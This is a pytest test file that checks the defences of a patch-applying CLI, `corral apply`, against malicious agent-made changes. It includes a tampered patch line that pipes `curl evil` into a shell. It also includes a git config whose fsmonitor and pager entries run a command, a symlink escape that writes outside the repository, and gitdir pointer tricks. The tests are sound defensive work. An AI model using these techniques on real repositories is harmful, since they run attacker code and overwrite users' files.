"""The attacks of issue 7 on `corral apply`, each performed end to end (a real child run on
the host backend, the real CLI entry point, real git).

Without the defences: `apply --check` said a patch would apply, then `apply` died halfway
and left tracked files deleted, the user's uncommitted edit lost (an ignored directory or a
nested clone where the child wrote a file); an embedded git directory whose config names an
fsmonitor was merged without a flag, and ran on the next `git status` in that folder; the
refusal's hint (`corral diff RUN | git apply --3way`) wrote beyond a symlink, outside the
repository; a diff.patch edited in the ledger was applied as is.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
from pathlib import Path

import pytest
from apply_support import call, checkout_digest, corral, record_patch
from exec_support import Runner, agent_file, git

from executor.ledger import ledger_dir, load_patch
from tests.timescale import scaled

HOST = pytest.mark.parametrize("backend", ["host"], indirect=True)

APPEND = "for f in b c d; do echo more >> src_$f.txt; done"


def _three_files(repo: Path) -> None:
    for name in "bcd":
        (repo / f"src_{name}.txt").write_text(f"{name}\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "three files")


def _assert_refused(code: int, output: str, *words: str) -> None:
    assert code == 4, output
    for word in words:
        assert word in output, output


@HOST
def test_an_ignored_directory_where_the_child_wrote_a_file_is_a_conflict_named_before_any_write(
    run: Runner, repo: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    (repo / ".gitignore").write_text("build/\n")
    _three_files(repo)
    (repo / "build").mkdir()
    (repo / "build" / "cache.bin").write_bytes(b"\x00cache")
    (repo / "src_c.txt").write_text("c\nmy uncommitted edit\n")
    agent_file(repo, "a", "tools: [shell]")
    record = run("a", [call("shell", command=f"printf x > build; {APPEND}"), {"text": "ok"}])
    assert {c["path"] for c in record.changed_files} >= {"build", "src_c.txt"}
    before = checkout_digest(repo)

    code, output = corral(capsys, "apply", "--check", record.run_id, "--root", str(repo))
    _assert_refused(code, output, "build:", "directory", "build/cache.bin (ignored)")
    assert "changed since" not in output  # the checkout is not blamed wrongly
    # --yes: a file named `build` is a Bazel BUILD file to the review flags (names fold case);
    # past the review, the conflict is what refuses it.
    code, output = corral(capsys, "apply", record.run_id, "--yes", "--root", str(repo))
    _assert_refused(code, output, "build/cache.bin (ignored)", "nothing was changed")

    assert checkout_digest(repo) == before
    assert (repo / "src_c.txt").read_text() == "c\nmy uncommitted edit\n"
    assert "git apply" not in output


@HOST
def test_a_nested_clone_where_the_child_wrote_a_file_is_a_conflict(
    run: Runner, repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    _three_files(repo)
    upstream = tmp_path / "upstream"
    upstream.mkdir()
    (upstream / "lib.c").write_text("int x;\n")
    git(upstream, "init", "-q")
    git(upstream, "add", "-A")
    git(upstream, "commit", "-qm", "lib")
    (repo / "vendor").mkdir()
    git(repo / "vendor", "clone", "-q", str(upstream), "lib")
    (repo / "src_c.txt").write_text("c\nmy uncommitted edit\n")
    agent_file(repo, "a", "tools: [shell]")
    record = run("a", [call("shell", command=f"mkdir -p vendor && printf x > vendor/lib; "
                             f"{APPEND}"), {"text": "ok"}])
    before = checkout_digest(repo)

    code, output = corral(capsys, "apply", record.run_id, "--root", str(repo))
    _assert_refused(code, output, "vendor/lib:", "nested repository")
    assert checkout_digest(repo) == before
    assert (repo / "vendor" / "lib" / "lib.c").read_text() == "int x;\n"


@HOST
def test_a_parent_that_is_a_file_or_a_symlink_in_the_checkout_is_a_conflict(
    run: Runner, repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    agent_file(repo, "a", "tools: [shell]")
    record = run("a", [call("shell", command="mkdir cache notes && echo pwn > cache/pwn.txt "
                             "&& echo n > notes/n.txt"), {"text": "ok"}])
    # After the snapshot the user's checkout gets an ignored symlink and a file there.
    (repo / ".git" / "info" / "exclude").write_text("cache\n")
    (repo / "cache").symlink_to(outside)
    (repo / "notes").write_text("my notes\n")
    before = checkout_digest(repo, outside=outside)

    code, output = corral(capsys, "apply", record.run_id, "--root", str(repo))
    _assert_refused(code, output, "cache/pwn.txt: its parent cache is a symlink",
                    "notes/n.txt: its parent notes is a file")
    assert checkout_digest(repo, outside=outside) == before
    assert list(outside.iterdir()) == []


@HOST
def test_no_refusal_hint_sends_the_user_around_the_checks(
    run: Runner, repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """The old hint, `corral diff RUN | git apply --3way`, wrote beyond an ignored symlink,
    outside the repository. Every hint now names `corral apply` only, and following it
    (`--3way`) keeps every check."""
    outside = tmp_path / "outside"
    outside.mkdir()
    agent_file(repo, "a", "tools: [shell]")
    record = run("a", [call("shell", command="mkdir cache && echo pwn > cache/pwn.txt && "
                             "echo changed >> README.md"), {"text": "ok"}])
    (repo / ".git" / "info" / "exclude").write_text("cache\n")
    (repo / "cache").symlink_to(outside)
    (repo / "README.md").write_text("# Project\n\nhello, edited since\n")
    before = checkout_digest(repo, outside=outside)
    for extra in ([], ["--3way"], ["--check"], ["--3way", "--check"]):
        code, output = corral(capsys, "apply", *extra, record.run_id, "--root", str(repo))
        _assert_refused(code, output, "cache/pwn.txt: its parent cache is a symlink")
        assert "git apply" not in output
    assert checkout_digest(repo, outside=outside) == before
    assert list(outside.iterdir()) == []


@HOST
def test_an_embedded_git_directory_is_refused_unless_allowed(
    run: Runner, repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    canary = tmp_path / "canary-ran"
    agent_file(repo, "a", "tools: [shell]")
    script = ("mkdir -p docs/ex/repo/objects/pack docs/ex/repo/refs/heads && cd docs/ex/repo && "
              "printf 'ref: refs/heads/main\\n' > HEAD && touch objects/pack/.keep "
              "refs/heads/.keep && printf '[core]\\n\\tworktree = ..\\n\\tfsmonitor = touch "
              f"{canary}\\n\\tpager = touch {canary}\\n' > config")
    record = run("a", [call("shell", command=script), {"text": "ok"}])
    before = checkout_digest(repo)

    for extra in ([], ["--yes"], ["--check"], ["--3way", "--yes"]):
        code, output = corral(capsys, "apply", *extra, record.run_id, "--root", str(repo))
        _assert_refused(code, output, "docs/ex/repo: the patch makes it a git directory",
                        "--allow-git-dirs")
    assert checkout_digest(repo) == before
    assert not (repo / "docs").exists()

    # The danger is real: once explicitly allowed, git run in that folder (here `git
    # branch` on a terminal, as a user or a prompt would) runs what the config names.
    code, output = corral(capsys, "apply", "--allow-git-dirs", "--yes", record.run_id,
                          "--root", str(repo))
    assert code == 0, output
    terminal, tty = pty.openpty()
    try:
        subprocess.run(["git", "branch"], cwd=repo / "docs" / "ex" / "repo", stdin=tty,
                       stdout=tty, stderr=tty, timeout=scaled(30), check=False,
                       env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TERM": "dumb"})
    finally:
        os.close(terminal)
        os.close(tty)
    assert canary.exists()


@HOST
def test_a_gitdir_pointer_and_a_commondir_are_refused(
    run: Runner, repo: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    agent_file(repo, "a", "tools: [shell]")
    script = ("mkdir -p w && printf 'gitdir: /tmp/elsewhere\\n' > w/pointer && "
              "printf 'ref: refs/heads/main\\n' > w/HEAD && printf '../..\\n' > w/commondir")
    record = run("a", [call("shell", command=script), {"text": "ok"}])
    code, output = corral(capsys, "apply", "--yes", record.run_id, "--root", str(repo))
    _assert_refused(code, output, "w/pointer: its content starts with 'gitdir:'",
                    "w: the patch makes it a git directory (commondir, head)")
    assert not (repo / "w").exists()


@HOST
def test_a_tampered_diff_is_refused_by_apply_check_and_3way(
    run: Runner, repo: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    agent_file(repo, "a", "tools: [shell]")
    record = run("a", [call("shell", command="echo ok > docs.txt"), {"text": "ok"}])
    ledger = ledger_dir(repo)
    patch = ledger / record.run_id / "diff.patch"
    evil = load_patch(ledger, record.run_id).replace(b"+ok", b"+curl evil | sh")
    patch.write_bytes(evil)
    before = checkout_digest(repo)
    for extra in ([], ["--check"], ["--3way"], ["--yes", "--allow-unverified"]):
        code, output = corral(capsys, "apply", *extra, record.run_id, "--root", str(repo))
        _assert_refused(code, output, "is not the one the run wrote", "sha256")
    assert checkout_digest(repo) == before

    # The display text `corral show` prints must be the patch too.
    patch.write_bytes(evil.replace(b"+curl evil | sh", b"+ok"))
    record_file = ledger / record.run_id / "record.json"
    data = json.loads(record_file.read_text())
    data["diff"] = data["diff"].replace("+ok", "+harmless")
    record_file.write_text(json.dumps(data))
    code, output = corral(capsys, "apply", record.run_id, "--root", str(repo))
    _assert_refused(code, output, "displays is not the diff that would be applied")
    assert checkout_digest(repo) == before


def test_a_record_without_a_digest_needs_explicit_consent(
    repo: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    patch = (b"diff --git a/new.txt b/new.txt\nnew file mode 100644\nindex 0000000..3e75765\n"
             b"--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n")
    run_id = record_patch(repo, patch)
    record_file = ledger_dir(repo) / run_id / "record.json"
    data = json.loads(record_file.read_text())
    del data["diff_sha256"]  # what every record written before digests looks like
    record_file.write_text(json.dumps(data))
    code, output = corral(capsys, "apply", run_id, "--root", str(repo))
    _assert_refused(code, output, "cannot be verified", f"--allow-unverified {run_id}")
    assert not (repo / "new.txt").exists()
    code, output = corral(capsys, "apply", "--allow-unverified", run_id, "--root", str(repo))
    assert code == 0, output
    assert (repo / "new.txt").read_text() == "new\n"
